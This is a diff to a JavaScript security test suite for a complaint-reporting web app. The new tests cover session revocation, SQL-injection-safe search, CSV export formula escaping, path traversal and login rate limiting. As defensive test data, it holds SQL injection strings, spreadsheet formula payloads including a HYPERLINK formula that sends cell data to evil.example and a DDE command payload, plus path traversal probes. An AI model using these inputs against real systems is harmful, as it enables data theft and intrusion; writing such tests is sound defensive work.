@@ -4,7 +4,7 @@ import { readFileSync, renameSync } from 'node:fs';
 import { connect } from 'node:net';
 import { join } from 'node:path';
 import { test, assert, sleep, until } from './harness.mjs';
-import { client, guarded, processes, report, signed_in, sql } from './client.mjs';
+import { client, guarded, processes, report, signed_in, sql, write_sql } from './client.mjs';
 
 export const options = { seed: [['init', '--demo-city'], ['migrate'], ['demo', '--days', '1']] };
 
@@ -55,7 +55,25 @@ test('each sign-in is a new session, and the one it replaces is over', async ({ 
 	await sign_in(me, 'damkar');
 	assert.notEqual(session(me), old);
 	assert.ok(!await is_in(client(site, `sesi=${old}`)), 'the old one still works');
-	assert.ok(!sql(site, 'SELECT hex(hash) FROM session').some(([h]) => h === Buffer.from(old, 'base64url').toString('hex').toUpperCase()), 'stored as it is sent');
+	const now = session(me), kept = sql(site, 'SELECT hex(hash), hex(csrf), hex(device) FROM session').flat().join(' ');
+	for (const bytes of [Buffer.from(now), Buffer.from(now, 'base64url')])
+		assert.ok(!kept.includes(bytes.toString('hex', 0, 16).toUpperCase()), 'stored as it is sent');
+});
+
+test('a session ends with its account, and does not come back with it', async ({ site }) => {
+	const me = client(site), admin = await signed_in(site, 'admin');
+	const [[id]] = sql(site, "SELECT id FROM account WHERE login = 'dishub'");
+	const turn = async how => assert.equal((await admin.post(`/akun/${id}/${how}`, await admin.keys(`/akun/${id}`))).status, 303, how);
+	await sign_in(me, 'dishub');
+	assert.ok(await is_in(me));
+	await turn('nonaktif');
+	assert.ok(!await is_in(me), 'still in');
+	await turn('aktif');
+	assert.ok(!await is_in(me), 'in again');
+	await sign_in(me, 'dishub');
+	assert.ok(await is_in(me));
+	write_sql(site, `UPDATE account SET disabled_at = 1 WHERE id = ${id}`);	// as somebody with a shell would
+	assert.ok(!await is_in(me), 'still in');
 });
 
 test('after signing out the cookie is worth nothing', async ({ site }) => {
@@ -225,6 +243,21 @@ test('SQL in a question is words', async ({ site }) => {
 		}
 	for (const words of ["damkar' --", "' OR 1=1 --", 'damkar"'])
 		assert.equal((await sign_in(client(site), words)).status, 422);
+
+	// Lists that are searched by typed words: whatever is in no name finds nobody.
+	const admin = await signed_in(site, 'admin'), auditor = await signed_in(site, 'auditor');
+	const found = async words => {
+		const answer = await admin.get(`/akun?text=${encodeURIComponent(words)}`);
+		assert.equal(answer.status, 200, words);
+		assert.doesNotMatch(answer.body_text, /\$argon2id/, words);
+		return new Set(answer.body_text.match(/href="\/akun\/\d+"/g) ?? []).size;
+	};
+	assert.equal(await found('damkar.a1'), 1);
+	for (const words of ['%', '_', 'd%r', "' OR '1'='1", "x%' OR 1=1 --", "%' UNION SELECT password FROM account --"])
+		assert.equal(await found(words), 0, words);
+	for (const words of ["auditor' --", "' OR 1=1 --"])
+		for (const name of ['tiket', 'pelaku', 'opd', 'tindakan', 'dari'])
+			assert.equal((await auditor.get(`/audit?${name}=${encodeURIComponent(words)}`)).status, 422, `${name}=${words}`);
 	assert.ok(Number(sql(site, 'SELECT count(*) FROM ticket')[0][0]) >= Number(before[0][0]));
 });
 
@@ -245,7 +278,10 @@ test('bytes that are no text are refused, before anything reads them', async ({ 
 test('one name sent twice is a fault, and the address does not add to a form', async ({ site }) => {
 	const me = client(site), { token } = await me.keys('/lapor');
 	const before = sql(site, 'SELECT count(*) FROM ticket')[0][0];
-	assert.equal((await me.ask('POST', '/lapor', { body: `token=${token}&privacy=public&privacy=anonymous&story=${'a'.repeat(40)}` })).status, 422);
+	const whole = new URLSearchParams({ token, category: 'DRN', area: sql(site, 'SELECT code FROM area WHERE level = 3 LIMIT 1')[0][0], place: 'Jl. Melati 12',
+		story: 'Got di depan sekolah tersumbat sampah.', name: '', phone: '', email: '', privacy: 'anonymous', consent: '1' });
+	for (const again of ['privacy=public', 'privacy=anonymous', 'category=JLN', 'story=Lain+dari+yang+tadi,+dan+lebih+panjang.', 'place=x'])
+		assert.equal((await me.ask('POST', '/lapor', { body: `${whole}&${again}` })).status, 422, again);
 	assert.equal((await me.ask('POST', `/lapor?token=${token}`, { body: 'story=x' })).status, 403, 'a token in the address');
 	const in_ = await signed_in(site, 'damkar'), { csrf } = await in_.keys('/sandi');
 	assert.equal((await in_.ask('POST', `/keluar?csrf=${csrf}`, { body: '' })).status, 403, 'a csrf in the address');
@@ -269,6 +305,46 @@ test('the type of a body is what we read, or 415', async ({ site }) => {
 	assert.equal(answer.status, 415);
 });
 
+// --- a spreadsheet ----------------------------------------------------------------------
+
+// RFC 4180, as a spreadsheet reads it.
+const cells = text => text.split('\r\n').filter(Boolean).flatMap(line => [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)]
+	.map(m => m[1] === undefined ? { text: m[2], ours: true } : { text: m[1].replaceAll('""', '"') }));
+
+test('no word of theirs is a formula in a file for a spreadsheet', async ({ site }) => {
+	const writers = execFileSync('sh', ['-c', "grep -lE 'csv_text|csv_end|text/csv' cgi/*/*.c | sort"], { encoding: 'utf8' }).trim().split('\n');
+	assert.deepEqual(writers, ['cgi/action/audit_action.c', 'cgi/lib/csv.c', 'cgi/page/audit_page.c'],
+		'another table for spreadsheets: take it here too, with formulas in every column that somebody types');
+
+	const formulas = ['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', ' =1+1', '\uff1d1+1', '=1\n=2'];
+	const desk = await signed_in(site, 'pengarah'), admin = await signed_in(site, 'admin');
+	const sent = await report(site, { privacy: 'public' });
+	for (const note of formulas)
+		assert.equal((await desk.post(`/tiket/${sent.number}/catatan`, { ...await desk.keys(`/tiket/${sent.number}`), catatan: note, pembaca: '1' })).status, 303, note);
+	const [[id]] = sql(site, "SELECT id FROM account WHERE login = 'bpbd'"), page = (await admin.get(`/akun/${id}`)).body_text;
+	const keys = Object.fromEntries([...page.matchAll(/<input type="hidden" name="(\w+)" value="([^"]*)"/g)].map(m => [m[1], m[2]]));
+	const [[role, agency]] = sql(site, `SELECT role, g.code FROM account a JOIN agency g ON g.id = a.agency WHERE a.id = ${id}`);
+	const named = await admin.post(`/akun/${id}`, { ...keys, name: '=1+1', role, agency, email: '' });
+	assert.equal(named.status, 303, named.body_text.match(/err-msg.*?<\/p>/g)?.join());
+	assert.equal((await sign_in(client(site), 'bpbd')).status, 303);
+
+	const auditor = await signed_in(site, 'auditor'), { csrf, token } = await auditor.keys('/audit');
+	const file = await auditor.post('/audit/unduh', { csrf, token });
+	assert.equal(file.status, 200);
+	assert.match(file.headers.get('content-type'), /^text\/csv/);
+	assert.match(file.headers.get('content-disposition'), /^attachment; filename="[\w.-]+\.csv"$/);
+	guarded(file, '/audit/unduh');
+	const all = cells(file.body_text);
+	assert.ok(all.length > 1000, `${all.length} cells`);
+	for (const { text, ours } of all)
+		if (ours)
+			assert.match(text, /^\d*$/, 'a cell without quotes that is no number of ours');
+		else
+			assert.doesNotMatch(text, /^[ \t\r\n]*[=+\-@\t\r\uff0b\uff0d\uff1d\uff20]/, 'a formula');
+	for (const what of [...formulas.map(f => f.trim()), '=1+1'])
+		assert.ok(all.some(c => c.text === `'${what}`), `${what} is not in the file`);
+});
+
 // --- files ------------------------------------------------------------------------------
 
 test('no path leads out of what is served', async ({ site }) => {
@@ -282,6 +358,10 @@ test('no path leads out of what is served', async ({ site }) => {
 				assert.ok(!answer.includes('root:x:0') && !answer.includes('clearsilver-dev') && !answer.includes('worker_processes') &&
 					!answer.includes('SQLite format 3') && !answer.includes(key), `${start}${step.repeat(6)}${target}`);
 			}
+	for (const path of ['/static..', '/static../static/..', '/static/err..', '/static/..%2f', '/static/err/..%2f..%2f', '/static//', '/static/./']) {
+		const answer = await raw(site, `GET ${path}/Makefile HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
+		assert.ok([400, 404].includes(status(answer)), `${path}: ${status(answer)}`);
+	}
 	for (const path of ['/static', '/static/', '/static/err/', '/.git/config', '/siaga.db', '/templates/home.cs'])
 		assert.notEqual((await client(site).get(path)).status, 200, path);
 });
@@ -332,6 +412,22 @@ test('an unknown name takes as long as a wrong password, and says the same', asy
 	const ratio = middle(a) / middle(b);
 	console.log(`# known ${middle(a).toFixed(1)} ms, unknown ${middle(b).toFixed(1)} ms`);
 	assert.ok(ratio > 0.6 && ratio < 1.7, `known ${middle(a)} ms, unknown ${middle(b)} ms`);
+});
+
+test('who has to wait is told so, for a name that is there and for one that is not', async ({ site }) => {
+	const token = (await site.cli('mint', '1')).trim();
+	const last = login => {
+		const body = new URLSearchParams({ login, password: 'salah-sama-sekali-99', token }).toString();
+		let out = '';
+		for (let i = 0; i < 8 && !/^Status: 429/.test(out); i++)
+			out = cgi(site, 'admin', { method: 'POST', path: '/masuk', body, env: { REMOTE_ADDR: '198.51.100.7' } });
+		assert.match(out, /^Status: 429/, login);
+		const { headers } = answer_of(out);
+		guarded({ headers }, '429');
+		assert.match(headers.get('retry-after'), /^\d+$/);
+		return out.replaceAll(login, 'NAME').replace(/value="[\w.-]{40,}"/g, 'KEY').replace(/\d+ detik|^Retry-After.*$/gm, '').replace(/^Content-Length.*$/m, '');
+	};
+	assert.equal(last('tni'), last('tnq'));
 });
 
 test('nothing of a person or a secret is in the logs', async ({ site }) => {
